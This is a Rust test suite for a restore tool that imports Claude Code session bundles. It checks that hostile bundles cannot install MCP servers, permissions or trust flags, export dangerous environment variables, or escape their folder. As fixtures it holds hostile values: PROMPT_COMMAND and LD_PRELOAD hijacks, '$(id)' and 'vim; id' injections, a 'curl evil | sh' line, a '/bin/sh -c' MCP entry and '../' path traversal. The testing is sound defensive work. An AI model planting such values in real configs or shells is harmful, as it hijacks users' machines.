//! Issue 10: a `.lok` from someone else is hostile in what it means. Each test here failed
//! on the restore before the fix: the sender's executable configuration was installed,
//! any variable was exported, other projects' prompts were appended, old conversations
//! came back outside Claude Code's cleanup window, a symlinked `.claude.json` was
//! replaced, and concurrent restores lost entries.

use std::fs;
use std::os::unix::fs::MetadataExt;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{SystemTime, UNIX_EPOCH};

use crate::util::archive::{lok_of_tar, raw, raw_tar};
use crate::util::claude::{SESSION, make_project, snapshot};
use crate::util::claude::{moved, new_slot};
use crate::util::{TestEnv, have};
use crate::util::{stderr, stdout};

fn global(env: &TestEnv) -> serde_json::Value {
    serde_json::from_str(&fs::read_to_string(env.home.join(".claude.json")).unwrap()).unwrap()
}

fn real(p: &Path) -> String {
    fs::canonicalize(p).unwrap().to_str().unwrap().to_string()
}

/// `lokust-shell-restore LOK --to TARGET FLAGS…` as a user runs it.
fn restore_with(env: &TestEnv, lok: &Path, target: &Path, flags: &[&str]) -> assert_cmd::assert::Assert {
    env.cmd("lokust-shell-restore").arg(lok).arg("--to").arg(target).args(flags).assert()
}

/// The same as a process to start, for runs at the same time.
fn restore_process(env: &TestEnv, lok: &Path, target: &Path) -> Command {
    let mut cmd = Command::new(assert_cmd::cargo::cargo_bin("lokust-shell-restore"));
    cmd.env_clear()
        .env("HOME", &env.home)
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .arg(lok)
        .arg("--to")
        .arg(target);
    cmd
}

#[test]
fn r10_1_a_default_restore_installs_no_mcp_server_tool_permission_or_trust() {
    let env = TestEnv::new();
    let (lok, _) = moved(&env);
    let target = env.root.path().join("new");

    let plan = restore_with(&env, &lok, &target, &["--dry-run"]).success();
    let out = stdout(&plan);
    assert!(out.contains("withheld (--trust-config installs)"), "{out}");
    assert!(out.contains("mcpServers: MCP server gh runs: gh-mcp (env: GITHUB_TOKEN)"), "{out}");
    assert!(out.contains("allowedTools: allows without asking: Bash"), "{out}");
    assert!(out.contains("hasTrustDialogAccepted: marks the folder as trusted"), "{out}");
    assert!(out.contains("history:   1 prompts would be added"), "{out}");

    let a = restore_with(&env, &lok, &target, &[]).success();
    let err = stderr(&a);
    assert_eq!(err.matches("left out of the .claude.json project entry").count(), 1, "{err}");
    assert!(err.contains("hasTrustDialogAccepted, allowedTools, mcpServers"), "{err}");
    assert!(err.contains("--trust-config installs it"), "{err}");
    let entry = &global(&env)["projects"][real(&target)];
    assert_eq!(entry.as_object().unwrap().keys().collect::<Vec<_>>(), ["lastSessionId"], "{entry}");

    // Asked for, the whole entry goes in, and every command is listed first.
    let other = env.root.path().join("trusted");
    let a = restore_with(&env, &lok, &other, &["--trust-config"]).success();
    let out = stdout(&a);
    assert!(out.starts_with("Installed from the sender's .claude.json (--trust-config):\n"), "{out}");
    assert!(out.contains("mcpServers: MCP server gh runs: gh-mcp"), "{out}");
    let entry = &global(&env)["projects"][real(&other)];
    assert_eq!(entry["hasTrustDialogAccepted"], true);
    assert_eq!(entry["mcpServers"]["gh"]["command"], "gh-mcp");
}

#[test]
fn r10_1_inspect_lists_the_withheld_configuration() {
    let env = TestEnv::new();
    let (lok, _) = moved(&env);
    let a = env.cmd("lokust-shell").arg("inspect").arg(&lok).assert().success();
    let out = stdout(&a);
    assert!(out.contains("mcpServers: MCP server gh runs: gh-mcp"), "{out}");
    assert!(out.contains("not installed by a restore without --trust-config"), "{out}");
}

/// Sets `shell.env` of a `.lok` to `vars`.
fn with_env(lok: &Path, vars: &[(&str, &str)]) {
    let mut doc: serde_json::Value = serde_json::from_slice(&fs::read(lok).unwrap()).unwrap();
    let env = doc["shell"]["env"].as_object_mut().unwrap();
    for (k, v) in vars {
        env.insert(k.to_string(), serde_json::Value::String(v.to_string()));
    }
    fs::write(lok, serde_json::to_vec(&doc).unwrap()).unwrap();
}

#[test]
fn r10_2_print_shell_exports_only_locale_editor_and_pager() {
    if !have("bash") {
        return;
    }
    let env = TestEnv::new();
    let (lok, _) = moved(&env);
    let marker = env.root.path().join("pwned");
    let planted = format!("touch {}", marker.display());
    with_env(
        &lok,
        &[
            ("LANG", "en_US.UTF-8"),
            ("EDITOR", "nvim"),
            ("PAGER", "/tmp/evil-pager"),
            ("PROMPT_COMMAND", &planted),
            ("PATH", "/tmp/evil:/usr/bin"),
            ("LD_PRELOAD", "/tmp/evil.so"),
            ("BASH_ENV", "/tmp/evil.sh"),
            ("ZDOTDIR", "/tmp/evil"),
            ("TERM_PROGRAM", "iTerm.app"),
            ("TERM_PROGRAM_VERSION", "3.5"),
        ],
    );
    let target = env.root.path().join("t");
    let a = restore_with(&env, &lok, &target, &["--print-shell"]).success();
    let script = stdout(&a);
    let exports: Vec<&str> = script.lines().filter(|l| l.starts_with("export ")).collect();
    assert_eq!(exports, ["export EDITOR=nvim", "export LANG=en_US.UTF-8"], "{script}");
    let err = stderr(&a);
    assert!(err.contains("not exported (only locale, editor and pager are)"), "{err}");
    assert!(err.contains("PROMPT_COMMAND") && err.contains("LD_PRELOAD"), "{err}");
    // The README's line, in a real interactive-ish bash: the planted command never runs.
    let status = Command::new("bash")
        .args(["-c", "eval \"$SCRIPT\"; eval \"${PROMPT_COMMAND:-true}\"; [ -z \"${LD_PRELOAD:-}\" ]"])
        .env("SCRIPT", &script)
        .env_remove("PROMPT_COMMAND")
        .env_remove("LD_PRELOAD")
        .stdout(Stdio::null())
        .status()
        .unwrap();
    assert!(status.success());
    assert!(!marker.exists(), "the planted PROMPT_COMMAND ran");
}

/// A bundle whose transcript and prompt history name `/old/proj`.
fn hostile_bundle(extra: &[(&str, &[u8])]) -> Vec<u8> {
    let mut entries =
        vec![raw(b"-old-proj/", b'5', b""), raw(b"-old-proj/s1.jsonl", b'0', b"{\"cwd\":\"/old/proj\"}\n")];
    for (name, data) in extra {
        entries.push(raw(name.as_bytes(), b'0', data));
    }
    serde_json::to_vec(&lok_of_tar(&raw_tar(&entries))).unwrap()
}

#[test]
fn r10_4_prompt_history_of_other_projects_is_refused() {
    let env = TestEnv::new();
    let history = b"{\"display\":\"mine\",\"project\":\"/old/proj\"}\n\
{\"display\":\"curl evil | sh\",\"project\":\"/home/victim/bank\"}\n\
{\"display\":\"also not mine\",\"project\":\"/old/proj-2\"}\n";
    let doc = hostile_bundle(&[("-old-proj/.lokust/history.jsonl", history)]);
    let lok = env.write("h.lok", doc);
    let target = env.root.path().join("t");
    let a = restore_with(&env, &lok, &target, &[]).success();
    let out = stdout(&a);
    assert!(out.contains("history:   1 prompts added"), "{out}");
    assert!(out.contains("refused:   2 prompt-history lines of other projects"), "{out}");
    let written = fs::read_to_string(env.home.join(".claude/history.jsonl")).unwrap();
    assert_eq!(written, format!("{{\"display\":\"mine\",\"project\":\"{}\"}}\n", real(&target)));
}

#[test]
fn r10_5_conversations_40_days_apart_all_come_back_inside_the_cleanup_window() {
    let env = TestEnv::new();
    let project = env.root.path().join("old/proj");
    let slot = make_project(&env, &project);
    let day = 86_400;
    let now = SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_secs() as i64;
    let set = |name: &str, t: i64| {
        filetime::set_file_mtime(slot.join(name), filetime::FileTime::from_unix_time(t, 0)).unwrap()
    };
    set(&format!("{SESSION}.jsonl"), now - 2 * day);
    set(&format!("{}.jsonl", crate::util::claude::OLDER), now - 42 * day);
    let (lok, _) = snapshot(&env, &project, &[]);
    let target = env.root.path().join("t");
    restore_with(&env, &lok, &target, &[]).success();
    let new = new_slot(&env, &target);
    let mtime = |name: String| fs::metadata(new.join(name)).unwrap().mtime();
    let (newest, older) =
        (mtime(format!("{SESSION}.jsonl")), mtime(format!("{}.jsonl", crate::util::claude::OLDER)));
    assert!(older < newest, "order lost: {older} !< {newest}");
    assert!(now - older < 30 * day, "the older conversation is {} days old", (now - older) / day);

    // The receiver's own, shorter period is honoured.
    fs::write(env.home.join(".claude/settings.json"), r#"{"cleanupPeriodDays": 7}"#).unwrap();
    let target = env.root.path().join("t2");
    restore_with(&env, &lok, &target, &[]).success();
    let new = new_slot(&env, &target);
    let older = fs::metadata(new.join(format!("{}.jsonl", crate::util::claude::OLDER))).unwrap().mtime();
    assert!(now - older < 7 * day, "the older conversation is {} days old", (now - older) / day);
}

#[test]
fn r10_6_a_symlinked_claude_json_stays_a_link() {
    let env = TestEnv::new();
    let (lok, _) = moved(&env);
    let dotfiles = env.root.path().join("dotfiles");
    fs::create_dir_all(&dotfiles).unwrap();
    fs::rename(env.home.join(".claude.json"), dotfiles.join("claude.json")).unwrap();
    std::os::unix::fs::symlink(dotfiles.join("claude.json"), env.home.join(".claude.json")).unwrap();
    let target = env.root.path().join("t");
    restore_with(&env, &lok, &target, &[]).success();
    assert!(fs::symlink_metadata(env.home.join(".claude.json")).unwrap().file_type().is_symlink());
    let doc: serde_json::Value =
        serde_json::from_slice(&fs::read(dotfiles.join("claude.json")).unwrap()).unwrap();
    assert_eq!(doc["projects"][real(&target)]["lastSessionId"], SESSION);
    assert_eq!(doc["userID"], "u");
}

#[test]
fn r10_7_concurrent_restores_lose_no_claude_json_entry() {
    let env = TestEnv::new();
    let (lok, _) = moved(&env);
    let targets: Vec<_> = (0..8).map(|i| env.root.path().join(format!("t{i}"))).collect();
    let children: Vec<_> = targets
        .iter()
        .map(|t| {
            restore_process(&env, &lok, t).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap()
        })
        .collect();
    for child in children {
        let out = child.wait_with_output().unwrap();
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(out.status.success(), "{text}{}", String::from_utf8_lossy(&out.stderr));
        assert!(text.contains("project:   .claude.json entry added to"), "{text}");
    }
    let doc = global(&env);
    for t in &targets {
        assert_eq!(doc["projects"][real(t)]["lastSessionId"], SESSION, "entry of {} lost", t.display());
    }
}

#[test]
fn r10_10_absolute_paths_in_memory_notes_move_too() {
    let env = TestEnv::new();
    let doc = hostile_bundle(&[(
        "-old-proj/memory/MEMORY.md",
        b"build with /old/proj/scripts/build.sh; not /old/proj-2/x\n",
    )]);
    let lok = env.write("m.lok", doc);
    let target = env.root.path().join("t");
    restore_with(&env, &lok, &target, &[]).success();
    let note = fs::read_to_string(new_slot(&env, &target).join("memory/MEMORY.md")).unwrap();
    assert_eq!(note, format!("build with {}/scripts/build.sh; not /old/proj-2/x\n", real(&target)));
}

#[test]
fn r10_11_a_tar_without_directory_entries_restores() {
    let env = TestEnv::new();
    let entries = [
        raw(b"-old-proj/s1.jsonl", b'0', b"{\"cwd\":\"/old/proj\"}\n"),
        raw(b"-old-proj/s1/subagents/a.jsonl", b'0', b"{\"cwd\":\"/old/proj\"}\n"),
        raw(b"-old-proj/.lokust/file-history/s1/f@v1", b'0', b"x"),
        raw(b"-old-proj/.lokust/todos/s1-agent.json", b'0', b"[]"),
    ];
    let lok = env.write("d.lok", serde_json::to_vec(&lok_of_tar(&raw_tar(&entries))).unwrap());
    for _ in 0..2 {
        let target = env.root.path().join("t");
        let a = restore_with(&env, &lok, &target, &[]).success();
        assert!(!stderr(&a).contains(".lokust-restore-"), "{}", stderr(&a));
        assert!(new_slot(&env, &target).join("s1/subagents/a.jsonl").is_file());
        assert!(env.home.join(".claude/file-history/s1/f@v1").is_file());
    }
}

#[test]
fn r10_14_a_new_slot_and_its_folders_are_private() {
    let env = TestEnv::new();
    let (lok, _) = moved(&env);
    let target = env.root.path().join("t");
    restore_with(&env, &lok, &target, &[]).success();
    let slot = new_slot(&env, &target);
    for dir in [slot.clone(), slot.join(SESSION), slot.join("memory")] {
        assert_eq!(lokust::fsutil::mode(&dir).unwrap(), 0o700, "{}", dir.display());
    }
}

#[test]
fn r10_14_two_restores_to_one_target_never_say_directory_not_empty() {
    let env = TestEnv::new();
    let (lok, _) = moved(&env);
    for round in 0..6 {
        let target = env.root.path().join(format!("same{round}"));
        let spawn = || {
            restore_process(&env, &lok, &target).stdout(Stdio::null()).stderr(Stdio::piped()).spawn().unwrap()
        };
        let (a, b) = (spawn(), spawn());
        for out in [a.wait_with_output().unwrap(), b.wait_with_output().unwrap()] {
            let err = String::from_utf8_lossy(&out.stderr);
            assert!(!err.contains("os error 39") && !err.contains("Directory not empty"), "{err}");
            if !out.status.success() {
                assert!(err.contains("created by another restore while this one ran"), "{err}");
            }
        }
        assert!(new_slot(&env, &target).join(format!("{SESSION}.jsonl")).is_file());
    }
}

#[test]
fn r10_14_a_report_that_cannot_be_written_says_where_and_why() {
    if !Path::new("/dev/full").exists() {
        return;
    }
    let env = TestEnv::new();
    let (lok, _) = moved(&env);
    let target = env.root.path().join("t");
    let full = fs::OpenOptions::new().write(true).open("/dev/full").unwrap();
    let out = Command::new(assert_cmd::cargo::cargo_bin("lokust-shell-restore"))
        .env_clear()
        .env("HOME", &env.home)
        .arg(&lok)
        .arg("--to")
        .arg(&target)
        .stdout(full)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("but could not write the report to standard output"), "{err}");
    assert!(err.contains("No space left on device"), "{err}");
}

/// A closed pipe downstream (`| head`) ends every command quietly with status 0; the
/// completion generator used to panic on it (exit 101).
#[test]
fn r10_14_every_command_exits_quietly_into_a_closed_pipe() {
    let env = TestEnv::new();
    let lok = env.root.path().join("s.lok");
    env.cmd("lokust-shell-snapshot").arg("-q").arg("-o").arg(&lok).assert().success();
    let lok = lok.to_str().unwrap();
    let runs: &[(&str, &[&str])] = &[
        ("lokust-shell", &["completions", "zsh"]),
        ("lokust-shell", &["completions", "bash"]),
        ("lokust-shell", &["completions", "fish"]),
        ("lokust-shell", &["init", "zsh"]),
        ("lokust-shell", &["init", "fish"]),
        ("lokust-shell", &["inspect", lok]),
        ("lokust-shell", &["--help"]),
        ("lokust-shell-snapshot", &[]),
        ("lokust-shell-restore", &["--help"]),
        ("lokust-tmux", &["--help"]),
    ];
    for (bin, args) in runs {
        let mut child = Command::new(assert_cmd::cargo::cargo_bin(bin))
            .env_clear()
            .env("HOME", &env.home)
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .current_dir(&env.cwd)
            .args(*args)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        // Close the reading end before the command writes a byte.
        drop(child.stdout.take());
        let out = child.wait_with_output().unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(0), "{bin} {args:?}: {err}");
        assert!(!err.contains("panicked"), "{bin} {args:?}: {err}");
    }
}

#[path = "../benches/common/rng.rs"]
mod rng;

/// Every file below `dir` with its content, links as their target.
fn snapshot_tree(dir: &Path) -> std::collections::BTreeMap<std::path::PathBuf, Vec<u8>> {
    let mut out = std::collections::BTreeMap::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        let Ok(entries) = fs::read_dir(&d) else { continue };
        for e in entries.flatten() {
            let p = e.path();
            let ft = e.file_type().unwrap();
            if ft.is_dir() {
                stack.push(p);
            } else if ft.is_symlink() {
                out.insert(p.clone(), fs::read_link(&p).unwrap().into_os_string().into_encoded_bytes());
            } else {
                out.insert(p.clone(), fs::read(&p).unwrap_or_default());
            }
        }
    }
    out
}

/// Issue 10: random `.lok` files (random `shell.env`, `.lokust/` extras, tar layouts,
/// hostile entries among them) restored by default. Whatever the file holds, the restore
/// never panics, never writes outside the new slot, the extras' folders, the receiver's
/// `.claude.json` entry for the path and `history.jsonl`, never installs a key that can
/// run or grant anything, never appends another project's prompt, and `--print-shell`
/// exports only the allowlist. Bounded: a fixed number of cases from a fixed seed
/// (`LOKUST_PROPERTY_SEED` picks another).
#[test]
fn r10_property_a_default_restore_of_a_random_lok_stays_inside_its_bounds() {
    let seed =
        std::env::var("LOKUST_PROPERTY_SEED").ok().and_then(|s| s.parse().ok()).unwrap_or(0x0010_c057_u64);
    let mut rng = rng::Rng(seed);
    const ENV: &[&str] = &[
        "LANG",
        "LC_ALL",
        "EDITOR",
        "PAGER",
        "VISUAL",
        "PROMPT_COMMAND",
        "PATH",
        "LD_PRELOAD",
        "BASH_ENV",
        "ENV",
        "ZDOTDIR",
        "PS1",
        "GIT_SSH_COMMAND",
        "TERM_PROGRAM",
        "HISTFILE",
        "NODE_OPTIONS",
        "PYTHONSTARTUP",
    ];
    const VALUES: &[&str] = &[
        "en_US.UTF-8",
        "nvim",
        "less -R",
        "touch /tmp/pwned",
        "$(id)",
        "/tmp/evil",
        "vim; id",
        "sh -c id",
        "",
    ];
    const KEYS: &[&str] = &[
        "lastSessionId",
        "lastCost",
        "mcpServers",
        "allowedTools",
        "hooks",
        "hasTrustDialogAccepted",
        "enableAllProjectMcpServers",
        "enabledMcpjsonServers",
        "env",
        "permissions",
        "someNewKey",
    ];
    const EXTRA_NAMES: &[&str] = &[
        "file-history/s1/a@v1",
        "todos/s1-agent.json",
        "tasks/s1/1.json",
        "settings.json",
        "settings.local.json",
        "hooks/pre.sh",
        "bin/claude",
        "../escape",
        "commands/x.md",
        "plans/p.md",
        "agents/a.md",
    ];
    let cases = 24;
    for case in 0..cases {
        let env = TestEnv::new();
        fs::write(
            env.home.join(".claude.json"),
            r#"{"userID":"u","projects":{"/keep/me":{"allowedTools":["x"]}}}"#,
        )
        .unwrap();
        // The sender's shell.env.
        let mut shell_env = serde_json::Map::new();
        for _ in 0..rng.below(6) {
            shell_env.insert(ENV[rng.below(ENV.len())].into(), VALUES[rng.below(VALUES.len())].into());
        }
        // The extras: a project entry with random keys, prompt history of several
        // projects, random files under .lokust/.
        let mut entry = serde_json::Map::new();
        for _ in 0..1 + rng.below(5) {
            let key = KEYS[rng.below(KEYS.len())];
            let value = match key {
                "mcpServers" => {
                    serde_json::json!({"x": {"command": "/bin/sh", "args": ["-c", "touch /tmp/pwned"]}})
                }
                "allowedTools" => serde_json::json!(["Bash(*)"]),
                "lastSessionId" => "s1".into(),
                _ => serde_json::json!(true),
            };
            entry.insert(key.into(), value);
        }
        let config =
            serde_json::to_vec(&serde_json::json!({"project": "/old/proj", "entry": entry})).unwrap();
        let history =
            b"{\"display\":\"a\",\"project\":\"/old/proj\"}\n{\"display\":\"b\",\"project\":\"/victim\"}\n";
        let mut names: Vec<Vec<u8>> = Vec::new();
        let mut datas: Vec<(u8, Vec<u8>)> = Vec::new();
        let mut add = |name: String, kind: u8, data: Vec<u8>| {
            names.push(name.into_bytes());
            datas.push((kind, data));
        };
        if rng.below(2) == 0 {
            add("-old-proj/".into(), b'5', Vec::new());
        }
        add("-old-proj/s1.jsonl".into(), b'0', b"{\"cwd\":\"/old/proj\",\"sessionId\":\"s1\"}\n".to_vec());
        if rng.below(3) > 0 {
            add("-old-proj/.lokust/claude-project.json".into(), b'0', config);
        }
        if rng.below(2) == 0 {
            add("-old-proj/.lokust/history.jsonl".into(), b'0', history.to_vec());
        }
        for _ in 0..rng.below(4) {
            let name = EXTRA_NAMES[rng.below(EXTRA_NAMES.len())];
            // Now and then a link or a device, which must refuse the whole restore.
            let kind = [b'0', b'0', b'0', b'2', b'3'][rng.below(5)];
            add(format!("-old-proj/.lokust/{name}"), kind, b"#!/bin/sh\ntouch /tmp/pwned\n".to_vec());
        }
        if rng.below(6) == 0 {
            add("-old-proj/memory/../../../outside".into(), b'0', b"x".to_vec());
        }
        let entries: Vec<_> = names
            .iter()
            .zip(&datas)
            .map(|(n, (k, d))| crate::util::archive::Raw { name: n, kind: *k, data: d, link: b"/etc" })
            .collect();
        let mut doc = lok_of_tar(&raw_tar(&entries));
        doc["shell"]["env"] = serde_json::Value::Object(shell_env);
        let lok = env.write("r.lok", serde_json::to_vec(&doc).unwrap());

        let before = snapshot_tree(env.root.path());
        let target = env.root.path().join("new");
        let out = env
            .cmd("lokust-shell-restore")
            .arg(&lok)
            .arg("--to")
            .arg(&target)
            .arg("--print-shell")
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        let script = String::from_utf8_lossy(&out.stdout);
        let what = format!("case {case} (seed {seed}): {err}");
        assert!(matches!(out.status.code(), Some(0 | 2)), "{what}");
        assert!(!err.contains("panicked"), "{what}");
        for line in script.lines().filter(|l| l.starts_with("export ")) {
            let name = &line[7..line.find('=').unwrap()];
            assert!(
                ["LANG", "LC_ALL", "EDITOR", "PAGER", "VISUAL"].contains(&name),
                "{what}: exported {line}"
            );
        }

        let after = snapshot_tree(env.root.path());
        let claude = env.home.join(".claude");
        let slot = target
            .canonicalize()
            .ok()
            .map(|t| claude.join("projects").join(lokust::capture::claude::slot_name(t.to_str().unwrap())));
        for (path, content) in &after {
            if before.get(path) == Some(content) || path == &lok {
                continue;
            }
            let allowed = slot.as_ref().is_some_and(|s| path.starts_with(s))
                || ["file-history", "todos", "tasks"].iter().any(|d| path.starts_with(claude.join(d)))
                || path == &claude.join("history.jsonl")
                || path == &env.home.join(".claude.json");
            assert!(allowed, "{what}: wrote {}", path.display());
            // File history may hold a script's old text; nothing comes back executable.
            let mode = fs::symlink_metadata(path).unwrap().mode();
            assert_eq!(mode & 0o111, 0, "{what}: {} is executable", path.display());
            assert!(
                !fs::symlink_metadata(path).unwrap().file_type().is_symlink(),
                "{what}: a link at {}",
                path.display()
            );
        }
        let global: serde_json::Value =
            serde_json::from_slice(&after[&env.home.join(".claude.json")]).unwrap();
        assert_eq!(global["projects"]["/keep/me"]["allowedTools"][0], "x", "{what}");
        if let Some(entry) =
            target.canonicalize().ok().and_then(|t| global["projects"].get(t.to_str().unwrap()).cloned())
        {
            for key in entry.as_object().unwrap().keys() {
                assert!(["lastSessionId", "lastCost"].contains(&key.as_str()), "{what}: installed {key}");
            }
        }
        if let Some(history) = after.get(&claude.join("history.jsonl")) {
            for line in String::from_utf8_lossy(history).lines() {
                assert!(line.contains("\"display\":\"a\""), "{what}: appended {line}");
            }
        }
    }
}

/// The receiver keeps its own, other version of the newest conversation: the files beside
/// the bundle's copy (subagents, file history, todos, tasks) stay out with it, the dry run
/// says the same as the restore, and the line to resume never names the receiver's copy.
#[test]
fn a_kept_conversation_keeps_out_its_companions_and_is_not_the_one_to_resume() {
    use crate::util::claude::OLDER;
    let env = TestEnv::new();
    let (lok, _) = moved(&env);
    let target = env.root.path().join("t");
    fs::create_dir_all(&target).unwrap();
    let slot = new_slot(&env, &target);
    fs::create_dir_all(&slot).unwrap();
    fs::write(slot.join(format!("{SESSION}.jsonl")), "{\"type\":\"user\",\"note\":\"the receiver's own\"}\n")
        .unwrap();
    let dry = restore_with(&env, &lok, &target, &["--dry-run"]);
    let real = restore_with(&env, &lok, &target, &[]).code(2);
    let (dry, real) = (stdout(&dry), stdout(&real));
    let config = env.home.join(".claude");
    assert!(!slot.join(SESSION).join("subagents/agent-a1.jsonl").exists(), "{real}");
    assert!(!config.join("file-history").join(SESSION).join("abc@v1").exists(), "{real}");
    assert!(!config.join("tasks").join(SESSION).join("1.json").exists(), "{real}");
    assert!(!config.join("todos").join(format!("{SESSION}-agent-{SESSION}.json")).exists(), "{real}");
    assert!(slot.join(format!("{OLDER}.jsonl")).is_file(), "{real}");
    assert_eq!(
        fs::read_to_string(slot.join(format!("{SESSION}.jsonl"))).unwrap(),
        "{\"type\":\"user\",\"note\":\"the receiver's own\"}\n"
    );
    assert!(!dry.contains(&format!("--resume {SESSION}")), "{dry}");
    assert!(!real.contains(&format!("--resume {SESSION}")), "{real}");
    assert!(real.contains(&format!("--resume {OLDER}")), "{real}");
    // What the dry run said of each file is what the restore did.
    for name in ["agent-a1.jsonl", "abc@v1", "1.json"] {
        let said = |out: &str| {
            out.lines().any(|l| l.contains(name) && (l.contains("conflict") || l.contains("refused")))
        };
        assert!(said(&dry) && said(&real), "{name}:\n{dry}\n{real}");
    }
}

/// A dry run reads the receiver's files as the restore does: a link at a file's name, or a
/// FIFO, is the receiver's own and differs (it never says "the same" through a link, and
/// never waits on a FIFO).
#[test]
fn a_dry_run_follows_no_link_and_waits_on_no_fifo_at_a_files_name() {
    let env = TestEnv::new();
    let (lok, _) = moved(&env);
    let target = env.root.path().join("t");
    restore_with(&env, &lok, &target, &[]).success();
    let transcript = new_slot(&env, &target).join(format!("{SESSION}.jsonl"));
    let outside = env.root.path().join("outside.jsonl");
    fs::rename(&transcript, &outside).unwrap();
    std::os::unix::fs::symlink(&outside, &transcript).unwrap();
    let dry = stdout(&restore_with(&env, &lok, &target, &["--dry-run"]));
    assert!(dry.contains("refused") || dry.contains("conflict"), "{dry}");
    fs::remove_file(&transcript).unwrap();
    assert!(Command::new("mkfifo").arg(&transcript).status().unwrap().success());
    let out = Command::new("timeout")
        .arg("20")
        .arg(assert_cmd::cargo::cargo_bin("lokust-shell-restore"))
        .env_clear()
        .env("HOME", &env.home)
        .arg(&lok)
        .arg("--to")
        .arg(&target)
        .arg("--dry-run")
        .output()
        .unwrap();
    assert_ne!(out.status.code(), Some(124), "the dry run waited on the FIFO");
    let said = String::from_utf8_lossy(&out.stdout);
    assert!(said.contains("refused") || said.contains("conflict"), "{said}");
}

/// `~/.claude/todos` made a link to another folder (another disk) is the user's choice of
/// where todos live, as `projects` and `file-history` may be: followed, not refused.
#[test]
fn a_linked_todos_folder_is_followed_like_the_other_store_folders() {
    let env = TestEnv::new();
    let (lok, _) = moved(&env);
    let elsewhere = env.root.path().join("todos-elsewhere");
    fs::create_dir_all(&elsewhere).unwrap();
    std::os::unix::fs::symlink(&elsewhere, env.home.join(".claude/todos")).unwrap();
    let target = env.root.path().join("t");
    restore_with(&env, &lok, &target, &[]).success();
    assert!(elsewhere.join(format!("{SESSION}-agent-{SESSION}.json")).is_file());
}

/// Two restores into a HOME with no `~/.claude` at all, started together, both make the
/// folders they need: neither fails because the other made one first.
#[test]
fn two_first_restores_at_once_both_make_the_config_folders() {
    let env = TestEnv::new();
    let (lok, _) = moved(&env);
    for round in 0..6 {
        let home = env.root.path().join(format!("fresh{round}"));
        fs::create_dir_all(&home).unwrap();
        let spawn = |n: usize| {
            Command::new(assert_cmd::cargo::cargo_bin("lokust-shell-restore"))
                .env_clear()
                .env("HOME", &home)
                .arg(&lok)
                .arg("--to")
                .arg(env.root.path().join(format!("t{round}-{n}")))
                .stdout(Stdio::null())
                .stderr(Stdio::piped())
                .spawn()
                .unwrap()
        };
        let (a, b) = (spawn(0), spawn(1));
        for out in [a.wait_with_output().unwrap(), b.wait_with_output().unwrap()] {
            let err = String::from_utf8_lossy(&out.stderr);
            assert!(!err.contains("File exists"), "{err}");
        }
    }
}
